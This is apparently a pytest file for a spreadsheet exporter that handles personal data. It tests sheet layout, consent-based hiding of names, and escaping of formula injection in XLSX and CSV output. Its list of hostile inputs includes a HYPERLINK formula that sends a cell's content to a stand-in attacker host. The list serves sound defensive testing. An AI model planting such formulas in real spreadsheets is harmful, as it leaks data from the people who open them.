"""The whole-database workbook: its shape, consent obeyed, and no cell that runs as a formula."""

from __future__ import annotations

import datetime as dt
import re
import zipfile

import openpyxl
import pytest

from desktop.domain.models import Participant
from desktop.sheets.layout import AREAS
from desktop.sheets.reading import read_spreadsheet
from desktop.sheets.workbook import export_csv, export_workbook
from tests.sheets.conftest import workbook_values

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(1,2)",
           "\tcmd", "'=already quoted", "=1+1"]


def test_one_sheet_per_area_with_hidden_codes_and_real_dates(store, school, tmp_path):
    out = tmp_path / "all.xlsx"
    summary = export_workbook(store, out, "sv")
    book = openpyxl.load_workbook(out)
    assert len(book.sheetnames) == len(AREAS) + 1  # and the "About this file" sheet
    mobilities = book.worksheets[[a.table for a in AREAS].index("mobility")]
    assert mobilities.row_dimensions[2].hidden
    codes = [c.value for c in mobilities[2]]
    assert codes[:3] == ["mobility.id", "mobility.project_id", "mobility.project_id:label"]
    start = codes.index("mobility.start_date") + 1
    activity = codes.index("mobility.activity_type") + 1
    rows = {mobilities.cell(r, codes.index("mobility.city") + 1).value: r
            for r in range(3, mobilities.max_row + 1)}
    aarhus = rows["Aarhus"]
    assert mobilities.cell(aarhus, start).is_date
    assert mobilities.cell(aarhus, start).value.date() == dt.date(2025, 10, 6)
    assert mobilities.cell(aarhus, activity).value == "SM-COUR-TRAIN"
    assert mobilities.cell(aarhus, activity + 1).value == "Kurs eller fortbildning"
    assert summary.rows["mobility"] == 3 and summary.rows["participant"] == 5


def test_people_whose_consent_does_not_cover_internal_use_are_initials(store, school, tmp_path):
    out = tmp_path / "people.xlsx"
    summary = export_workbook(store, out, "en", ("participant", "mobility_participant"))
    people = workbook_values(out)["People"]
    names = {row[3]: row[1] for row in people[2:]}  # role label → … (several teachers)
    shown = [row[1] for row in people[2:]]
    assert "Anna Lind" in shown and "Bo Ek" in shown and "Cia Berg" in shown  # consent given
    assert "Eva Sund" not in shown and "E. S." in shown  # no consent recorded
    assert "Dan Holm" not in shown and "D. H." not in shown  # protected: role only
    assert "Pupil" in names
    assert summary.unnamed == 2
    links = workbook_values(out)["Who went"]
    assert not any("Eva Sund" in str(cell) for row in links for cell in row)
    assert any(row[3] == "E. S." for row in links[2:])

    everyone = tmp_path / "dpo.xlsx"
    export_workbook(store, everyone, "en", ("participant",), for_dpo=True)
    shown = [row[1] for row in workbook_values(everyone)["People"][2:]]
    assert {"Eva Sund", "Dan Holm"} <= set(shown)


def test_a_withdrawn_consent_hides_the_name_and_the_notes(store, school, tmp_path):
    from desktop.store.privacy import withdraw_consent

    withdraw_consent(store, school["anna"], on="2025-01-01")
    person = store.people.get(school["anna"])
    person.notes = "Anna Lind leads the outdoor group"
    store.people.save(person)
    out = tmp_path / "people.xlsx"
    export_workbook(store, out, "en", ("participant", "story_author"))
    text = repr(workbook_values(out))
    assert "Anna Lind" not in text and "A. L." in text


def test_the_owasp_rule_escapes_every_trigger_and_unescapes_exactly():
    from desktop.sheets.cells import escape_csv, risky, unescape_csv

    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x"]:
        assert escape_csv(text).startswith("'")
        assert unescape_csv(escape_csv(text)) == text
    for text in ["1-2", "a=b", "'quoted'", "", "Ålesund"]:
        assert escape_csv(text) == text and unescape_csv(text) == text
    assert risky("\r=1") and not risky("x=1")


def _formulas(path):
    with zipfile.ZipFile(path) as zf:
        return [name for name in zf.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<f[ >]", zf.read(name))]


def test_injection_cells_come_back_as_text_in_xlsx(store, tmp_path):
    for text in HOSTILE:
        store.people.save(Participant(name="Injected person", notes=text))
    store.people.save(Participant(name=HOSTILE[0], role="pupil"))
    out = tmp_path / "hostile.xlsx"
    export_workbook(store, out, "en", ("participant",), for_dpo=True)
    assert _formulas(out) == []
    book = openpyxl.load_workbook(out)  # not data_only: a formula would show as one
    cells = [c for row in book["People"].iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert set(HOSTILE) <= values
    risky = [c for c in cells if str(c.value).startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky and all(c.quotePrefix for c in risky)


def test_injection_cells_are_escaped_in_csv_and_read_back_as_written(store, tmp_path):
    for text in HOSTILE:
        store.people.save(Participant(name="Injected person", notes=text))
    out = tmp_path / "people.csv"
    export_csv(store, out, "participant", "en", for_dpo=True)
    raw = out.read_bytes().decode("utf-8-sig")
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    back = read_spreadsheet(out).sheets[0].rows
    notes = {row[-1] for row in back[1:]}
    assert set(HOSTILE) <= notes


@pytest.mark.parametrize("language,separator", [("en", ","), ("pl", ";"), ("sv", ";")])
def test_csv_uses_the_separator_excel_expects_in_the_language(store, school, tmp_path,
                                                              language, separator):
    out = tmp_path / "m.csv"
    export_csv(store, out, "mobility", language)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    spreadsheet = read_spreadsheet(out)
    assert spreadsheet.separator == separator
    assert len(spreadsheet.sheets[0].rows) == 4
